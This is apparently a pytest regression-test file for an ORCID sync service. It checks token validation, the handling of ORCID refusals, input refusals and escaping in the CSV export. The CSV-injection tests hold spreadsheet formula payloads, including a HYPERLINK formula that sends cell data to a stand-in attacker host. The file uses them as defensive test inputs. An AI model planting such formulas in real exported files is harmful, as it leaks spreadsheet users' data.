"""Issue 13, ORCID's trust rules: what a token proves, what ORCID's refusals do, and bad input refused, not coerced.

Each test here is a regression test for a finding of the issue (it failed before the fix). Names the
fix introduced are imported inside the tests, so that each test fails on its own on the old code.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest
from pydantic import ValidationError

from orcid_sync.domain.batches import problems_from
from orcid_sync.domain.errors import InvalidInputError
from orcid_sync.domain.jobs.models import Job, JobTrigger, JobType
from orcid_sync.domain.models import AssetInput, OrcidStatus, ResearcherInput
from orcid_sync.domain.pull.csv_file import CSV_COLUMNS, PulledWorkRow, read_rows, rows_bytes
from orcid_sync.domain.pull.selection import select_pull_researchers
from orcid_sync.domain.push import ineligibility, select_push_researchers
from orcid_sync.domain.reports import TokenProblem, token_health, token_health_csv
from orcid_sync.domain.tokens.importing import TokenRow, parse_token_body, parse_token_row
from tests.unit.test_push_plan import NOW as NOW_PUSH
from tests.unit.test_push_plan import SENDING, World, asset, orcid_failure, researcher, token, world

ORCID = "0000-0002-1825-0097"
ACCESS = "f5af9f51-07e6-4332-8f1a-c0c11c1e3728"
REFRESH = "f725f747-3a65-49f6-a231-3e8944ce464d"
NOW = datetime(2026, 1, 1, tzinfo=UTC)


def token_row(**values: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "orcid": ORCID,
        "access_token": ACCESS,
        "refresh_token": REFRESH,
        "scope": "/activities/update /read-limited",
        "expires_in": 631138518,
    }
    return {k: v for k, v in (base | values).items() if v is not None}


ASSET: dict[str, Any] = {
    "id": "a-1",
    "researchers": ["r-1"],
    "type": "publication.journalArticle",
    "status": "approved",
    "visible": True,
    "title": "On computable numbers",
}
RESEARCHER: dict[str, Any] = {"id": "r-1", "given_names": "Alan", "family_name": "Turing"}


def refusal(model: type[AssetInput] | type[ResearcherInput], values: dict[str, Any]) -> list[tuple[str, str]]:
    with pytest.raises(ValidationError) as caught:
        model.model_validate(values)
    return [(p.field, p.reason) for p in problems_from(caught.value)]


# --- §1 token rows: unknown keys, scopes ----------------------------------------------------------------------


def test_a_misspelt_token_key_is_refused_naming_it_instead_of_dropping_the_refresh_token() -> None:
    raw = token_row(refresh_token=None, refresh_tokn=REFRESH)
    found = parse_token_row(raw, 4)
    assert isinstance(found, list), "the row was accepted without its refresh token"
    assert [(p.row, p.field) for p in found] == [(4, "refresh_tokn")]
    assert "not a column of a token row" in found[0].reason
    assert REFRESH not in found[0].reason


def test_a_csv_header_with_an_unknown_column_is_refused_naming_it() -> None:
    text = f"orcid,access_token,refresh_tokn,scope,expires_in\n{ORCID},{ACCESS},{REFRESH},/activities/update,600\n"
    with pytest.raises(InvalidInputError) as caught:
        parse_token_body(text.encode(), "text/csv")
    assert [p.field for p in caught.value.problems] == ["header"]
    assert "column refresh_tokn" in caught.value.problems[0].reason
    assert REFRESH not in caught.value.message and ACCESS not in caught.value.message


def test_orcid_token_response_and_esploro_keys_are_still_known() -> None:
    assert isinstance(parse_token_row(token_row(name="Sofia Garcia", token_type="bearer"), 0), TokenRow)
    legacy = {"orcid": ORCID, "access.token": ACCESS, "refresh.token": REFRESH, "token.type": "bearer"}
    assert isinstance(parse_token_row(legacy | {"scopes": "/activities/update", "expiry": 2000000000}, 0), TokenRow)


@pytest.mark.parametrize("scope", ["/activites/update", "/activities/update /write-everything", "/read-limited2"])
def test_a_scope_orcid_does_not_grant_is_refused(scope: str) -> None:
    found = parse_token_row(token_row(scope=scope), 0)
    assert isinstance(found, list), f"{scope} was accepted"
    assert [p.field for p in found] == ["scope"]
    assert "not a scope ORCID grants" in found[0].reason


@pytest.mark.parametrize(
    "scope",
    ["/authenticate /activities/update", "openid /activities/update", "/orcid-works/create /activities/update"],
)
def test_the_scopes_orcid_grants_are_accepted(scope: str) -> None:
    assert isinstance(parse_token_row(token_row(scope=scope), 0), TokenRow)


def test_a_token_with_a_control_character_is_refused_without_quoting_it() -> None:
    found = parse_token_row(token_row(access_token=ACCESS[:10] + "\x00" + ACCESS[10:]), 0)
    assert isinstance(found, list)
    assert [p.field for p in found] == ["access_token"]
    assert ACCESS[:10] not in found[0].reason


# --- §1 ORCID refusing a token: 9017 marks it invalid ----------------------------------------------------------


def test_a_push_answered_9017_marks_the_token_invalid_and_the_researcher_token_invalid() -> None:
    from orcid_sync.domain.models import TokenInvalidReason

    w = world(asset(1))
    w.orcid.failures["create_works"] = [orcid_failure("TokenForOtherRecordError", 401, 9017, "401: not this record")]
    outcome = w.push()
    assert outcome.failed
    stored = w.tokens.items["r1"]
    assert (stored.invalid_reason, stored.invalid_at) == (TokenInvalidReason.WRONG_RECORD, NOW_PUSH)
    assert not stored.is_active
    assert w.researchers.items["r1"].orcid_status is OrcidStatus.TOKEN_INVALID
    [event] = outcome.events
    assert (event.action, event.orcid_error_code) == ("marked token invalid", 9017)
    assert "connect" in event.message
    # And the next runs leave the researcher alone: not selected, so no error event every night
    assert select_push_researchers([w.researchers.items["r1"]], w.tokens.items, SENDING, None) == []
    assert select_pull_researchers([w.researchers.items["r1"]], w.tokens.items, None) == []
    reason = ineligibility(w.researchers.items["r1"], stored, SENDING)
    assert reason is not None and "token_invalid" in reason


def test_a_revoked_token_still_marks_the_researcher_revoked_through_the_same_path() -> None:
    from orcid_sync.domain.models import TokenInvalidReason

    w = world(asset(1))
    w.orcid.revoked = True
    w.push()
    stored = w.tokens.items["r1"]
    assert stored.invalid_reason is TokenInvalidReason.INVALID_TOKEN and stored.revoked_at == NOW_PUSH
    assert w.researchers.items["r1"].orcid_status is OrcidStatus.REVOKED


def test_a_token_replaced_meanwhile_is_not_marked_invalid() -> None:
    w = world(asset(1))
    w.orcid.failures["create_works"] = [orcid_failure("TokenForOtherRecordError", 401, 9017, "401: not this record")]

    # The researcher reconnects (a new token) while the push is at ORCID
    def reconnect_first(orcid: str, token_: Any, works: Any) -> Any:
        w.tokens.items["r1"] = token(fingerprint="new")
        raise orcid_failure("TokenForOtherRecordError", 401, 9017, "401: not this record")

    w.orcid.create_works = reconnect_first  # type: ignore[method-assign]
    w.push()
    assert w.tokens.items["r1"].invalid_at is None
    assert w.researchers.items["r1"].orcid_status is OrcidStatus.ACTIVE


def test_the_first_successful_push_with_an_imported_token_authenticates_the_orcid_id() -> None:
    w = World()
    w.researchers.items["r1"] = researcher(orcid_authenticated=False)
    w.assets.items["a001"] = asset(1)
    w.push()
    assert w.researchers.items["r1"].orcid_authenticated


def test_a_push_that_fails_does_not_authenticate_the_orcid_id() -> None:
    w = world(asset(1))
    w.orcid.failures["create_works"] = [orcid_failure("TokenForOtherRecordError", 401, 9017, "401: not this record")]
    w.push()
    assert not w.researchers.items["r1"].orcid_authenticated


# --- §1 the token report --------------------------------------------------------------------------------------


def test_the_token_report_names_a_wrong_record_token_and_why() -> None:
    r = researcher(orcid_status="token_invalid")
    t = token(invalid_at=NOW, invalid_reason="wrong_record")
    [row] = token_health([r], {"r1": t}, now=NOW)
    assert row.problems == [TokenProblem.TOKEN_INVALID]
    assert row.reason is not None and "9017" in row.reason
    assert "token_invalid" in token_health_csv_of(row)


def token_health_csv_of(row: Any) -> str:
    from orcid_sync.domain.reports import TokenHealthReport

    return token_health_csv(
        TokenHealthReport(generated_at=NOW, expiring_within_days=90, researchers_checked=1, rows=[row])
    )


# --- §4 booleans are JSON booleans ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["yes", "true", "false", 1, 0, "1"])
def test_visible_must_be_a_json_boolean(value: object) -> None:
    assert [field for field, _ in refusal(AssetInput, ASSET | {"visible": value})] == ["visible"]


@pytest.mark.parametrize("field", ["active", "update_orcid_profile"])
def test_researcher_flags_must_be_json_booleans(field: str) -> None:
    assert [name for name, _ in refusal(ResearcherInput, RESEARCHER | {field: "false"})] == [field]


# --- §4 control characters ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("values", "field"),
    [
        ({"title": "Bell\x07 title"}, "title"),
        ({"title": "Two\nlines"}, "title"),
        ({"title": "A\ttab"}, "title"),
        ({"subtitle": "del\x7f"}, "subtitle"),
        ({"container_title": "J\x00ournal"}, "container_title"),
        ({"abstract": "vertical\x0btab"}, "abstract"),
        ({"abstract": "lone\rCR"}, "abstract"),
        ({"doi": "10.1234/ab\x01c"}, "doi"),
        ({"status": "appro\x1bved"}, "status"),
        ({"contributors": [{"name": "J.\x00 Carberry"}]}, "contributors.0.name"),
    ],
)
def test_control_characters_in_asset_text_are_refused_naming_the_field(values: dict[str, Any], field: str) -> None:
    found = refusal(AssetInput, ASSET | values)
    assert [name for name, _ in found] == [field]
    assert "control character U+00" in found[0][1]


def test_an_abstract_may_hold_tabs_and_line_breaks() -> None:
    abstract = "First paragraph.\n\n\tSecond, indented.\r\nWindows line end."
    assert AssetInput.model_validate(ASSET | {"abstract": abstract}).abstract == abstract


@pytest.mark.parametrize("field", ["given_names", "family_name", "position", "department", "email"])
def test_control_characters_in_researcher_text_are_refused_naming_the_field(field: str) -> None:
    value = "x\x00y@example.edu" if field == "email" else "Jo\x08siah"
    assert [name for name, _ in refusal(ResearcherInput, RESEARCHER | {field: value})] == [field]


def test_a_profile_url_with_a_control_character_is_refused() -> None:
    found = refusal(ResearcherInput, RESEARCHER | {"profile_url": "https://repo.example/p/1\x00"})
    assert [name for name, _ in found] == ["profile_url"]


# --- §4 the pull CSV neutralises formulas (OWASP, CSV injection) --------------------------------------------------


def pulled(**values: Any) -> PulledWorkRow:
    return PulledWorkRow.model_validate({"researcher_id": "r1", "orcid": ORCID, "put_code": 7} | values)


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab first", "\rCR first"],
)
def test_a_cell_that_would_start_a_formula_starts_with_a_single_quote(title: str) -> None:
    data = rows_bytes([pulled(title=title, journal_title=title, source_name=title)])
    [cells] = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    for column in ("title", "journal_title", "source_name"):
        assert cells[CSV_COLUMNS.index(column)] == "'" + title
    # Tools reading the file back get the original text
    assert read_rows(data)[0].title == title


def test_embedded_quotes_are_doubled_and_a_leading_quote_is_escaped_too() -> None:
    data = rows_bytes([pulled(title='=1+2";=1+2', journal_title="'=already quoted", source_name="'Tis plain")])
    text = data.decode("utf-8")
    assert '"\'=1+2"";=1+2"' in text  # OWASP's example, escaped as OWASP shows
    [cells] = list(csv.reader(io.StringIO(text, newline="")))
    assert cells[CSV_COLUMNS.index("journal_title")] == "''=already quoted"
    assert cells[CSV_COLUMNS.index("source_name")] == "'Tis plain"
    back = read_rows(data)[0]
    assert (back.title, back.journal_title, back.source_name) == ('=1+2";=1+2', "'=already quoted", "'Tis plain")


def test_ordinary_cells_are_unchanged() -> None:
    cells = pulled(title="Plain title", doi="10.1234/abc", url="https://doi.org/10.1234/abc").cells()
    assert cells[CSV_COLUMNS.index("title")] == "Plain title"
    assert cells[CSV_COLUMNS.index("doi")] == "10.1234/abc"
    assert cells[CSV_COLUMNS.index("put_code")] == "7"


# --- §4 a researcher asked for by name but not eligible: the run says why -----------------------------------------


class RecordedEvents:
    def __init__(self) -> None:
        self.events: list[Any] = []

    def add_events(self, job_id: str, events: Any) -> None:
        self.events += [(job_id, e) for e in events]


class MemoryStore:
    def __init__(self, items: dict[str, Any]) -> None:
        self.items = items

    def get_many(self, ids: Any) -> dict[str, Any]:
        return {i: self.items[i] for i in ids if i in self.items}


def test_a_requested_researcher_left_out_of_a_run_gets_an_event_saying_why() -> None:
    from orcid_sync.domain.researchers import ExplainingSelector

    never = researcher(id="never", orcid_status="none")
    wrong = researcher(id="wrong", orcid_status="token_invalid")
    fine = researcher(id="fine")
    tokens = {"wrong": token("wrong", invalid_at=NOW, invalid_reason="wrong_record"), "fine": token("fine")}
    recorded = RecordedEvents()
    selector = ExplainingSelector(
        lambda job: ["fine"],
        researchers=MemoryStore({"never": never, "wrong": wrong, "fine": fine}),  # type: ignore[arg-type]
        tokens=MemoryStore(tokens),  # type: ignore[arg-type]
        events=recorded,
        why=lambda r, t: ineligibility(r, t, SENDING),
        now=lambda: NOW,
    )
    job = Job(
        job_id="push-1",
        type=JobType.PUSH,
        trigger=JobTrigger.MANUAL,
        started_by="admin",
        started_at=NOW,
        options={"researcher_ids": ["never", "wrong", "fine", "gone"]},
    )
    assert selector(job) == ["fine"]
    messages = {e.researcher_id: (e.level, e.message) for _, e in recorded.events}
    assert set(messages) == {"never", "wrong", "gone"}
    assert messages["never"] == (
        "warning",
        "not included in this push run: the researcher is not connected to ORCID (status none)",
    )
    assert "status token_invalid" in messages["wrong"][1]
    assert "no longer exists" in messages["gone"][1]


def test_pull_ineligibility_names_the_reason() -> None:
    from orcid_sync.domain.researchers import pull_ineligibility

    r = researcher()
    assert pull_ineligibility(r, None) is not None and "no ORCID token" in str(pull_ineligibility(r, None))
    assert "/read-limited" in str(pull_ineligibility(r, token(scopes=["/activities/update"])))
    assert pull_ineligibility(r, token()) is None
